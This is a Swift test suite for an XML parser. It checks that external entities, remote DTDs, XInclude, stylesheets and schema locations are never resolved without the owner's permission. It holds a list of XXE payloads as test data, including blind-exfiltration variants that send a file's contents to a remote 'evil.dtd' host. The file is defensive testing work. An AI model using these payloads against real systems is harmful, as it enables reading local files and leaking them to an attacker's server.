/// Documents that refer to a file or a server. Nothing is read or connected unless the owner of the parser permits it.
@Suite struct ExternalAccessTests {
  /// `F` is the URL of a file, `P` its path, `N` its name, `H` the URL of a server, and `S` that URL without a scheme.
  static let documents: [(name: String, document: String)] = [
    ("general entity, file", #"<!DOCTYPE a [<!ENTITY x SYSTEM "F">]><a>&x;</a>"#),
    ("general entity, path", #"<!DOCTYPE a [<!ENTITY x SYSTEM "P">]><a>&x;</a>"#),
    ("general entity, relative", #"<!DOCTYPE a [<!ENTITY x SYSTEM "N">]><a>&x;</a>"#),
    ("general entity, up and down", #"<!DOCTYPE a [<!ENTITY x SYSTEM "../../../../../../../../../..P">]><a>&x;</a>"#),
    ("general entity, localhost", #"<!DOCTYPE a [<!ENTITY x SYSTEM "file://localhostP">]><a>&x;</a>"#),
    ("general entity, one slash", #"<!DOCTYPE a [<!ENTITY x SYSTEM "file:P">]><a>&x;</a>"#),
    ("general entity, capitals", #"<!DOCTYPE a [<!ENTITY x SYSTEM "FILE://P">]><a>&x;</a>"#),
    ("general entity, http", #"<!DOCTYPE a [<!ENTITY x SYSTEM "H/x">]><a>&x;</a>"#),
    ("general entity, no scheme", #"<!DOCTYPE a [<!ENTITY x SYSTEM "S/x">]><a>&x;</a>"#),
    ("general entity, public", #"<!DOCTYPE a [<!ENTITY x PUBLIC "-//x//y" "H/x">]><a>&x;</a>"#),
    (
      "general entity, other schemes",
      #"<!DOCTYPE a [<!ENTITY x SYSTEM "jar:F!/x"><!ENTITY y SYSTEM "php://filter/resource=P"><!ENTITY z SYSTEM "data:text/xml,x">]><a>&x;&y;&z;</a>"#
    ), ("general entity through an internal one", #"<!DOCTYPE a [<!ENTITY x SYSTEM "F"><!ENTITY y "&x;">]><a>&y;</a>"#),
    ("in an attribute", #"<!DOCTYPE a [<!ENTITY x SYSTEM "F">]><a b="&x;"/>"#),
    ("in an attribute through an internal one", #"<!DOCTYPE a [<!ENTITY x SYSTEM "F"><!ENTITY y "&x;">]><a b="&y;"/>"#),
    ("in an attribute default", #"<!DOCTYPE a [<!ENTITY x SYSTEM "F"><!ATTLIST a b CDATA "&x;">]><a/>"#),
    ("in a fixed attribute default", #"<!DOCTYPE a [<!ENTITY x SYSTEM "H/x"><!ATTLIST a b CDATA #FIXED "&x;">]><a/>"#),
    ("parameter entity, file", #"<!DOCTYPE a [<!ENTITY % p SYSTEM "F">%p;]><a/>"#),
    ("parameter entity, path", #"<!DOCTYPE a [<!ENTITY % p SYSTEM "P">%p;]><a/>"#),
    ("parameter entity, http", #"<!DOCTYPE a [<!ENTITY % p SYSTEM "H/p">%p;]><a/>"#),
    (
      "parameter entity through an internal one",
      ##"<!DOCTYPE a [<!ENTITY % p SYSTEM "F"><!ENTITY % q "&#37;p;">%q;]><a/>"##
    ),
    (
      "parameter entity declared by an internal one",
      ##"<!DOCTYPE a [<!ENTITY % q "<!ENTITY &#37; p SYSTEM 'H/p'>">%q;%p;]><a/>"##
    ), ("external subset, file", #"<!DOCTYPE a SYSTEM "F"><a/>"#),
    ("external subset, path", #"<!DOCTYPE a SYSTEM "P"><a/>"#),
    ("external subset, http", #"<!DOCTYPE a SYSTEM "H/x.dtd"><a/>"#),
    (
      "external subset, public",
      #"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "H/xhtml1-strict.dtd"><html/>"#
    ), ("external subset, standalone", #"<?xml version="1.0" standalone="yes"?><!DOCTYPE a SYSTEM "H/x.dtd"><a/>"#),
    ("external subset with an internal one", #"<!DOCTYPE a SYSTEM "H/x.dtd" [<!ELEMENT a ANY>]><a/>"#),
    // Blind exfiltration: the second entity would transmit the first one.
    (
      "exfiltration by a remote DTD",
      #"<!DOCTYPE a [<!ENTITY % file SYSTEM "F"><!ENTITY % dtd SYSTEM "H/evil.dtd">%dtd;%send;]><a/>"#
    ),
    (
      "exfiltration by a remote subset", #"<!DOCTYPE a SYSTEM "H/evil.dtd" [<!ENTITY % file SYSTEM "F">]><a>&send;</a>"#
    ),
    (
      "exfiltration in the internal subset",
      ##"<!DOCTYPE a [<!ENTITY % file SYSTEM "F"><!ENTITY % eval "<!ENTITY &#37; send SYSTEM 'H/?%file;'>">%eval;%send;]><a/>"##
    ),
    (
      "exfiltration by character references",
      ##"<!DOCTYPE a [<!ENTITY % file SYSTEM "F"><!ENTITY % eval "<!ENTITY &#37; send SYSTEM 'H/?&#37;file;'>">%eval;%send;]><a/>"##
    ),
    (
      "exfiltration by errors",
      ##"<!DOCTYPE a [<!ENTITY % file SYSTEM "F"><!ENTITY % eval "<!ENTITY &#37; error SYSTEM 'file:///no/&#37;file;'>">%eval;%error;]><a/>"##
    ),
    (
      "exfiltration by a system identifier",
      #"<!DOCTYPE a [<!ENTITY x SYSTEM "F"><!ENTITY y SYSTEM "H/?&x;">]><a>&y;</a>"#
    ),
    (
      "a local DTD redefined",
      ##"<!DOCTYPE a [<!ENTITY % local SYSTEM "F"><!ENTITY % x "<!ENTITY &#37; y SYSTEM 'H/y'>">%local;%y;]><a/>"##
    ),
    // Names of resources that are not entities.
    (
      "notation and unparsed entity",
      #"<!DOCTYPE a [<!NOTATION n SYSTEM "H/n"><!ENTITY u SYSTEM "F" NDATA n><!ATTLIST a b ENTITY #IMPLIED>]><a b="u"/>"#
    ), ("XInclude of text", #"<a xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="F" parse="text"/></a>"#),
    (
      "XInclude of XML",
      #"<a xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="H/x"><x:fallback/></x:include></a>"#
    ), ("style sheet", #"<?xml-stylesheet type="text/xsl" href="H/x.xsl"?><?xml-model href="F"?><a/>"#),
    (
      "schema",
      #"<a xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:schemaLocation="H/a H/a.xsd" s:noNamespaceSchemaLocation="F"/>"#
    ), ("base", #"<!DOCTYPE a [<!ENTITY x SYSTEM "x">]><a xml:base="H/">&x;</a>"#),
    ("namespace", #"<a xmlns="H/ns" xmlns:f="F"><f:b/></a>"#),
  ]

  private static let secret = "root:x:0:0:"

  private final class Delegate: ExpatXMLParserDelegate {
    private(set) var seen = ""

    func parser(
      _ parser: ExpatXMLParser, didStartElement elementName: String, namespaceURI: String?,
      qualifiedName qName: String?, attributes attributeDict: [String: String]
    ) { seen += attributeDict.values.joined() }

    func parser(_ parser: ExpatXMLParser, foundCharacters string: String) { seen += string }

    func parser(_ parser: ExpatXMLParser, foundInternalEntityDeclarationWithName name: String, value: String?) {
      seen += value ?? ""
    }

    func parser(_ parser: ExpatXMLParser, parseErrorOccurred parseError: any Error) {
      seen += parseError.localizedDescription
    }
  }

  /// All named resources, in a folder of their own, and a server that serves anything.
  private struct Target {
    let folder: TemporaryFolder
    let watch: FileWatch
    let server: LoopbackServer

    init() throws {
      folder = try TemporaryFolder(["secret": Array(ExternalAccessTests.secret.utf8)])
      watch = try #require(FileWatch(folder.path("secret")))
      server = try LoopbackServer { _ in .body(Array("<!ENTITY % send SYSTEM 'file:///etc/hostname'>".utf8)) }
    }

    func document(_ document: String) -> [UInt8] {
      let path = folder.path("secret")
      let url = server.url("")
      let names = ["F": "file://" + path, "P": path, "N": "secret", "H": url, "S": String(url.drop { $0 != "/" })]
      // Finds single capitals between characters that are not letters.
      let filled = document.replacing(/\b[FPNHS]\b/) { names[String($0.output)] ?? "" }.replacing(
        "localhostP", with: "localhost" + path
      ).replacing("..P", with: ".." + path)
      return Array(filled.utf8)
    }

    /// `read` parses a document and returns what was seen of it.
    func expectNothing(_ name: String, _ read: () -> String) {
      _ = watch.sawOpening
      let seen = read()
      #expect(!watch.sawOpening, "\(name): the file was opened")
      #expect(!seen.contains(secret), "\(name): the file was read")
      #expect(server.connectionsAccepted == 0, "\(name): a connection was made")
    }
  }

  @Test func theWatchSeesAnOpening() throws {
    let target = try Target()
    #expect(!target.watch.sawOpening)
    _ = try Data(contentsOf: URL(fileURLWithPath: target.folder.path("secret")))
    #if os(Linux)
      #expect(target.watch.sawOpening)
    #endif
  }

  /// What permits nothing alone: no setting, the switch without a policy, a policy without the switch, and the origin of a
  /// document in memory, which has none.
  enum Setting: CaseIterable {
    case defaults, fileByDefault, switchAlone, policyAlone, sameOrigin

    func parser(_ document: [UInt8], named name: String, in folder: TemporaryFolder) throws -> ExpatXMLParser {
      if self == .fileByDefault {
        // The name of a file beside the document would suffice.
        try Data(document).write(to: URL(fileURLWithPath: folder.path(name)))
        return ExpatXMLParser(.file(folder.path(name)))
      }
      let parser = ExpatXMLParser(data: Data(document))
      parser.shouldResolveExternalEntities = self == .switchAlone || self == .sameOrigin
      if self == .sameOrigin { parser.externalEntityResolvingPolicy = .sameOriginOnly }
      if self == .policyAlone {
        parser.externalEntityResolvingPolicy = .always
        parser.allowedExternalEntityURLs = [URL(fileURLWithPath: folder.path("secret"))]
      }
      return parser
    }
  }

  @Test(arguments: Setting.allCases) func nothingIsRead(setting: Setting) throws {
    let target = try Target()
    for (index, (name, document)) in Self.documents.enumerated() {
      let parser = try setting.parser(target.document(document), named: "\(index).xml", in: target.folder)
      let delegate = Delegate()
      parser.delegate = delegate
      target.expectNothing(name) {
        parser.parse()
        return delegate.seen
      }
    }
  }

  /// A stream parser has no setting that would permit it.
  @Test func nothingIsReadByAStreamParser() throws {
    struct Handler: XMLStreamHandler {
      var text = ""
      mutating func characters(_ text: XMLBorrowedUTF8) { self.text += text.string }
    }
    let target = try Target()
    for (name, document) in Self.documents {
      target.expectNothing(name) {
        var handler = Handler()
        try? XMLStreamParser(.data(Data(target.document(document)))).parse(&handler)
        return handler.text
      }
    }
  }

  /// Files are read, but no connection is made that could transmit them.
  @Test func noConnectionIsMadeWithoutNetwork() throws {
    let target = try Target()
    for (name, document) in Self.documents {
      let parser = ExpatXMLParser(data: Data(target.document(document)))
      parser.shouldResolveExternalEntities = true
      parser.externalEntityResolvingPolicy = .noNetwork
      parser.parse()
      #expect(target.server.connectionsAccepted == 0, "\(name)")
    }
  }

  @Test func permittedEntitiesAreRead() throws {
    let target = try Target()
    let delegate = Delegate()
    let parser = ExpatXMLParser(data: Data(target.document(#"<!DOCTYPE a [<!ENTITY x SYSTEM "F">]><a>&x;</a>"#)))
    parser.shouldResolveExternalEntities = true
    parser.allowedExternalEntityURLs = [URL(fileURLWithPath: target.folder.path("secret"))]
    parser.delegate = delegate
    #expect(parser.parse())
    #expect(delegate.seen == Self.secret)
  }
}
